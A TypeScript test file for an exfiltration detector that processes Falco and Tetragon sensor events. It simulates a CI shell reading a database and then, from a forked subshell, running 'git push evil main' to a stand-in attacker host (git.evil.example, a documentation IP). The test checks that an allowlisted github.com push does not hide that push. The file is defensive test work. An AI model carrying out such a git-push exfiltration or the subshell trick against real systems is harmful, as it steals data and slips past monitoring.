/**
 * A push-shaped process joins a pending push of its tool by lineage; without it only when its event names no
 * parent at all (a subshell's push names one the sensor never saw: its own push), or when it is the
 * stand-in made for its helper, seen first because its own exec was lost (one push, one alert).
 */
import { describe, expect, it } from 'vitest';
import { MiB, type Proc, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';

/** A process the sensor never reported (a bash subshell: fork, no exec), child of `p`. */
function forkedSubshell(s: Scenario, p: Proc): Proc {
  const pid = p.pid + 5000;
  return { ...p, pid, ppid: p.pid, execId: s.falco ? null : `clone-${pid}`, parentExecId: p.execId, containerPid: pid };
}

describe.each(['falco', 'tetragon'] as const)('merge without a known parent (%s)', (source) => {
  it('`(git push evil main; :)` — a subshell makes the parent unknown: the attacker push is not hidden in an allowlisted github.com push', () => {
    const s = new Scenario({ source });
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    const g1 = s.exec(c, '/usr/bin/git', 'push https://github.com/acme/app.git main', { parent: sh });
    const h1 = s.exec(
      c,
      '/usr/lib/git-core/git-remote-https',
      'https://github.com/acme/app.git https://github.com/acme/app.git',
      { parent: g1 },
    );
    s.connect(h1, GITHUB_IP, 443).send(h1, GITHUB_IP, 443, 10_000);
    s.wait(2000);
    const sub = forkedSubshell(s, sh);
    const g2 = s.exec(c, '/usr/bin/git', 'push evil main', { parent: sub });
    const h2 = s.exec(c, '/usr/lib/git-core/git-remote-https', 'evil https://git.evil.example/loot.git', {
      parent: g2,
    });
    s.connect(h2, ATTACKER_IP, 443).send(h2, ATTACKER_IP, 443, 80 * MiB);
    const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }];
    const { alerts } = run(s.events, { allowlist });
    expect(alerts.map((a) => [a.push.destination, a.push.addresses])).toEqual([
      ['git.evil.example', [`${ATTACKER_IP}:443`]],
    ]);
  });
});

describe('Falco, the exec of `git push` lost (its helper seen first, git on its next event)', () => {
  it('one push, one alert', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container({ namespace: 'prod' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    // git's exec event lost (syscall drops); its child's exec arrives, then git's own reads.
    const g: Proc = {
      ...sh,
      pid: sh.pid + 7000,
      ppid: sh.pid,
      binary: '/usr/bin/git',
      args: 'push origin main',
      parentBinary: sh.binary,
      parentArgs: sh.args,
      containerPid: 77,
    };
    const h = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/app.git', { parent: g });
    s.read(g, '/srv/app/.git/config', 400);
    s.connect(h, GITHUB_IP, 443).send(h, GITHUB_IP, 443, 80 * MiB);
    const { alerts } = run(s.events);
    expect(alerts).toHaveLength(1);
  });
});
